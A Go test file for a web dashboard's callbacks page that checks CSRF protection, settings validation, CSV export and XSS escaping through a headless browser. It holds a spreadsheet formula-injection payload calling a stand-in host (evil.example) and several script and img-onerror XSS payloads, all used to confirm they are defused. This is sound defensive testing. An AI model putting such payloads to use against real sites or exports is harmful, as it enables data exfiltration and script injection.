package httpd_test

import (
	"encoding/csv"
	"html"
	"io"
	"net/http"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"appliance/httpd"
	"appliance/httpd/httpdtest"
	"appliance/store"
)

// widgetSettings reads the site's stored widget settings.
func widgetSettings(t *testing.T, f *cbFixture) (store.WidgetSettings, error) {
	t.Helper()
	v, err := f.srv.DB.Get(store.WidgetKey(f.site.ID))
	if err != nil {
		return store.WidgetSettings{}, err
	}
	return store.DecodeWidgetSettings(v)
}

// getPage fetches a dashboard page with the signed-in client; its HTML
// comes unescaped, as text to look for.
func getPage(t *testing.T, c *http.Client, u string) (int, string) {
	t.Helper()
	resp, err := c.Get(u)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, html.UnescapeString(string(b))
}

func postForm(t *testing.T, c *http.Client, u string, v url.Values) (int, string, http.Header) {
	t.Helper()
	resp, err := c.PostForm(u, v)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b), resp.Header
}

// The callbacks page: linked from the site page, its settings saved
// through a CSRF-checked form (a new secret shown once, bad input shown
// and nothing changed), callbacks listed with filters, and exported as
// CSV with formula cells defused.
func TestCallbacksPage(t *testing.T) {
	f := newCBFixture(t, func(o *httpd.Options) { o.Callbacks.VisitorLimit = 100 })
	c := f.srv.Client(t)
	page := f.srv.URL + "sites/" + f.key + "/callbacks"
	if _, body := getPage(t, c, f.srv.URL+"sites/"+f.key); !strings.Contains(body, `id="site-callbacks" href="/sites/`+f.key+`/callbacks"`) {
		t.Errorf("the site page does not link the callbacks page")
	}
	status, body := getPage(t, c, page)
	if status != 200 || !strings.Contains(body, "No callbacks yet") || !strings.Contains(body, `id="callback-settings"`) {
		t.Fatalf("empty page: %d\n%s", status, body)
	}
	// The filter names the states in words, not as their codes.
	if !strings.Contains(body, `<option value="no_scenario" >no scenario</option>`) || strings.Contains(body, ">no_scenario<") {
		t.Errorf("the state filter shows a code:\n%s", cutAt(body, `name="state"`, "</select>"))
	}
	if _, ru := getPageIn(t, c, page, "ru"); !strings.Contains(ru, `<option value="no_scenario" >без сценария</option>`) {
		t.Errorf("the Russian state filter:\n%s", cutAt(ru, `name="state"`, "</select>"))
	}

	p := newPBX(t)
	form := url.Values{"url": {p.srv.URL}, "captcha": {"1"}, "lang": {"ru"}, "groups": {"16587 Продажи\n16588 Сервис"}}
	if status, _, _ := postForm(t, c, page, form); status != http.StatusForbidden {
		t.Errorf("settings without the CSRF token: %d, want 403", status)
	}
	if w, _ := widgetSettings(t, f); w.ScenarioURL != "" {
		t.Fatalf("a form without the CSRF token changed the settings: %+v", w)
	}
	form.Set("csrf", f.srv.FormToken(t, c, "sites/"+f.key+"/callbacks"))
	status, body, _ = postForm(t, c, page, form)
	m := secretRe.FindStringSubmatch(body)
	if status != 200 || m == nil || !strings.Contains(body, "Callback settings saved.") {
		t.Fatalf("saving settings: %d\n%s", status, body)
	}
	p.secret = m[1]
	w, _ := widgetSettings(t, f)
	if w.ScenarioURL != p.srv.URL || w.ScenarioSecret != p.secret || !w.Captcha || w.Lang != "ru" || len(w.Groups) != 2 {
		t.Fatalf("stored settings %+v", w)
	}
	_, body = getPage(t, c, page)
	if strings.Contains(body, p.secret) || !strings.Contains(body, "…"+p.secret[len(p.secret)-4:]) {
		t.Errorf("the secret is shown again, or its hint is missing")
	}

	bad := url.Values{"csrf": form["csrf"], "url": {"pbx.example"}, "lang": {"ru"}}
	status, body, _ = postForm(t, c, page, bad)
	if status != 400 || !strings.Contains(body, "scenario URL must be http") || !strings.Contains(body, `value="pbx.example"`) {
		t.Errorf("bad URL: %d\n%s", status, body)
	}
	if w2, _ := widgetSettings(t, f); w2.ScenarioURL != w.ScenarioURL || !w2.Captcha {
		t.Errorf("refused settings changed them: %+v", w2)
	}
	form.Set("captcha", "")
	if status, _, h := postForm(t, c, page, form); status != http.StatusSeeOther || !strings.HasSuffix(h.Get("Location"), "/sites/"+f.key+"/callbacks?done=saved") {
		t.Errorf("saving with the same secret: %d %v", status, h)
	}
	// The queue of callbacks without a scenario is on by default; the form
	// turns it off, and a form that does not show the box keeps it.
	if _, body := getPage(t, c, page); !strings.Contains(body, `name="queue" value="1" checked`) || w.NoQueue {
		t.Errorf("the queue is not on by default: %+v", w)
	}
	form.Set("queue_shown", "1")
	if status, _, _ := postForm(t, c, page, form); status != http.StatusSeeOther {
		t.Errorf("queue off: %d", status)
	}
	form.Del("queue_shown")
	postForm(t, c, page, form)
	if w2, _ := widgetSettings(t, f); !w2.NoQueue {
		t.Errorf("the queue is still on: %+v", w2)
	}
	if _, body := getPage(t, c, page); strings.Contains(body, `name="queue" value="1" checked`) {
		t.Errorf("the page shows the queue on")
	}

	formula := `=HYPERLINK("http://evil.example/?"&A1,"click")`
	for _, fields := range []map[string]any{
		{"phone": "+7 910 123-45-67", "group_id": 16587, "u": formula},
		{"phone": "79101234568", "delayed_call_time": f.clock.Now().Add(3 * time.Hour).UnixMilli()},
	} {
		if status, out := f.order(t, f.v, fields); status != 200 || out["success"] != true {
			t.Fatalf("order: %d %v", status, out)
		}
	}
	p.setStatus(http.StatusServiceUnavailable)
	f.order(t, f.v, map[string]any{"phone": "79101234569"})

	_, body = getPage(t, c, page)
	for _, want := range []string{"+79101234567", "8 (910) 123-45-67", "group 16587 · Продажи", "sent", "pending", "failed",
		"HTTP 503", "no free line", "google", "at once"} {
		if !strings.Contains(body, want) {
			t.Errorf("the page lacks %q", want)
		}
	}
	// The number as typed is the same number: shown once, as written.
	if strings.Contains(body, "+7 910 123-45-67") {
		t.Errorf("the page repeats the number as typed")
	}
	_, body = getPage(t, c, page+"?state=pending")
	if strings.Count(body, `<tr id="callback-`) != 1 || !strings.Contains(body, "+79101234568") {
		t.Errorf("state=pending lists:\n%s", body)
	}
	_, body = getPage(t, c, page+"?phone=%2B7+910+123-45-69")
	if strings.Count(body, `<tr id="callback-`) != 1 || !strings.Contains(body, "+79101234569") {
		t.Errorf("phone filter lists:\n%s", body)
	}
	link := regexp.MustCompile(`id="callbacks-csv" href="([^"]+)"`).FindStringSubmatch(body)
	if link == nil || link[1] != "/sites/"+f.key+"/callbacks.csv?phone=%2B7+910+123-45-69" {
		t.Fatalf("the CSV link keeps the filter: %q", link)
	}
	if _, csvBody := getPage(t, c, f.srv.URL+strings.TrimPrefix(link[1], "/")); strings.Count(csvBody, "\n") != 2 || !strings.Contains(csvBody, "79101234569") {
		t.Errorf("the filtered CSV is:\n%s", csvBody)
	}
	if status, _ := getPage(t, c, page+"?state=lost"); status != 400 {
		t.Errorf("a bad state filter: %d", status)
	}

	resp, err := c.Get(f.srv.URL + "sites/" + f.key + "/callbacks.csv")
	if err != nil {
		t.Fatal(err)
	}
	raw, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.Header.Get("Content-Type") != "text/csv; charset=utf-8" || !strings.HasPrefix(resp.Header.Get("Content-Disposition"), "attachment") {
		t.Errorf("CSV headers %v", resp.Header)
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(raw), "\ufeff"))).ReadAll()
	if err != nil || len(rows) != 4 || rows[0][0] != "id" || rows[0][13] != "page_url" {
		t.Fatalf("CSV %v: %v", rows, err)
	}
	first := rows[3] // oldest last
	if first[2] != "sent" || first[3] != `="79101234567"` || first[4] != `="+7 910 123-45-67"` || first[6] != "16587" || first[7] != "Продажи" || first[13] != "'"+formula || first[20] != "google" {
		t.Errorf("CSV row %q", first)
	}
}

// XSS payloads in every callback field a visitor, a PBX or an owner can
// put text in (the page URL, the traffic source, the referrer, the PBX's
// error answer, a group name) show as text on the callbacks page, and none
// runs, with the page's CSP off.
func TestBrowserCallbacksXSSInert(t *testing.T) {
	f := newCBFixture(t)
	ctx := httpdtest.Browser(t)
	const script = `<script>window.__xss=1</script>`
	const img = `"><img src=x onerror="window.__xss=1">`
	v := trackHit(t, f.srv, f.key, "", "https://shop.example/?utm_source="+url.QueryEscape(img)+"&utm_campaign="+url.QueryEscape(script),
		"https://ref.example.org/"+url.PathEscape(img))
	p := newPBX(t)
	p.secret = f.configure(t, map[string]any{"webhook": p.srv.URL, "groups": "7 " + img}).Secret
	p.fail(http.StatusBadGateway, img+script)
	status, out := f.order(t, v, map[string]any{"phone": "79101234567", "group_id": 7, "u": img + script})
	wantStatus(t, "order", status, out, 3, "telephony_failed")
	cb := f.callbacks(t)[0]
	if cb.State != store.CallbackFailed {
		t.Fatalf("stored %+v", cb)
	}

	email, password := "owner@example.com", "correct horse battery"
	f.srv.Client(t) // creates the owner
	bypassCSP(t, ctx)
	httpdtest.Must(t, ctx,
		chromedp.Navigate(f.srv.URL+"login"),
		chromedp.SendKeys(chromedp.CSS(`input[name=email]`), email),
		chromedp.SendKeys(chromedp.CSS(`input[name=password]`), password),
	)
	submit(t, ctx, `button[type=submit]`)
	httpdtest.Must(t, ctx, chromedp.Navigate(f.srv.URL+"sites/"+f.key+"/callbacks"), chromedp.WaitVisible(chromedp.ID("callbacks")))
	// Give any onerror of a broken image the time to fire.
	httpdtest.Eval[bool](t, ctx, `new Promise(r => setTimeout(() => r(true), 300))`)
	if got := httpdtest.Eval[bool](t, ctx, `window.__xss === undefined`); !got {
		t.Error("window.__xss was set: a payload ran")
	}
	if n := httpdtest.Eval[int](t, ctx, `document.querySelectorAll('main img, main svg, main script:not([src])').length`); n != 0 {
		t.Errorf("%d elements made from the payloads", n)
	}
	row := "#callback-" + itoa(cb.ID)
	text := httpdtest.Eval[string](t, ctx, `document.querySelector(`+jsString(row)+`).innerText`)
	for _, want := range []string{img + script, "7 · " + img, "https://ref.example.org/" + url.PathEscape(img)} {
		if !strings.Contains(text, want) {
			t.Errorf("the row %q lacks %q", text, want)
		}
	}
	if got := httpdtest.Eval[string](t, ctx, `document.querySelector(`+jsString(row+" .source")+`).innerText`); !strings.Contains(got, img) || !strings.Contains(got, script) {
		t.Errorf("source shows %q", got)
	}
	if got := httpdtest.Eval[string](t, ctx, `document.querySelector('textarea[name=groups]').value`); got != "7 "+img+"\n" {
		t.Errorf("the groups field holds %q", got)
	}
	httpdtest.SaveScreenshot(t, ctx, "callbacks-page")

	// Control: with the CSP off, markup that does reach the DOM runs.
	httpdtest.Eval[bool](t, ctx, `(document.body.insertAdjacentHTML("beforeend", '<img src=x onerror="window.__control=1">'), true)`)
	ran := false
	for deadline := time.Now().Add(5 * time.Second); time.Now().Before(deadline) && !ran; time.Sleep(50 * time.Millisecond) {
		ran = httpdtest.Eval[bool](t, ctx, `window.__control === 1`)
	}
	if !ran {
		t.Error("control: an injected onerror did not run; the XSS check proves nothing")
	}
}

// The callbacks page says why a call was not handed to the telephony side
// in the owner's language, above what the PBX answered, which is marked as
// an English technical detail (code); the visitor's card names the
// callback's state in the reader's language.
func TestCallbacksPageSaysWhyInWords(t *testing.T) {
	f := newCBFixture(t)
	v := trackHit(t, f.srv, f.key, "", "https://shop.example/", "")
	p := newPBX(t)
	p.secret = f.configure(t, map[string]any{"webhook": p.srv.URL}).Secret
	p.fail(http.StatusUnauthorized, "bad signature")
	status, out := f.order(t, v, map[string]any{"phone": "79101234567"})
	wantStatus(t, "order", status, out, 3, "telephony_failed")
	c := f.srv.Client(t)
	for lang, words := range map[string]string{
		"en": "The receiver refused access: check the secret it verifies the signature with.",
		"ru": "Получатель отказал в доступе: проверьте секрет, которым он проверяет подпись.",
	} {
		_, page := getPageIn(t, c, f.srv.URL+"sites/"+f.key+"/callbacks", lang)
		page = html.UnescapeString(page)
		if !strings.Contains(page, `<div class="error-text why">`+words+`</div>`) || !strings.Contains(page, `<code lang="en">401 Unauthorized: "bad signature"</code>`) {
			t.Errorf("%s: the callbacks page does not say why in words above the answer:\n%s", lang, page)
		}
		detail := map[string]string{"en": "Technical detail:", "ru": "Технические подробности:"}[lang]
		if !strings.Contains(page, `<div class="error-text detail">`+detail+` <code lang="en">`) {
			t.Errorf("%s: the receiver's answer is not marked as a technical detail:\n%s", lang, cutAt(page, `class="delivery"`, "</td>"))
		}
	}
	_, page := getPageIn(t, c, f.srv.URL+"sites/"+f.key+"/callbacks", "ru")
	state := cutAt(html.UnescapeString(page), `<td class="state"`, "</td>")
	_, card := getPageIn(t, c, f.srv.URL+"sites/"+f.key+"/visitors/"+strconv.FormatUint(v.VisitorID, 10), "ru")
	card = cutAt(html.UnescapeString(card), `tl-callback`, "</li>")
	m := regexp.MustCompile(`<span class="tag">([^<]+)</span>`).FindStringSubmatch(state)
	if m == nil || !strings.Contains(card, `<span class="tag">`+m[1]+`</span>`) || latinWordRE.MatchString(m[1]) {
		t.Errorf("the visitor's card does not name the callback's state as the callbacks page does (%q), in Russian:\n%s", m, card)
	}
}
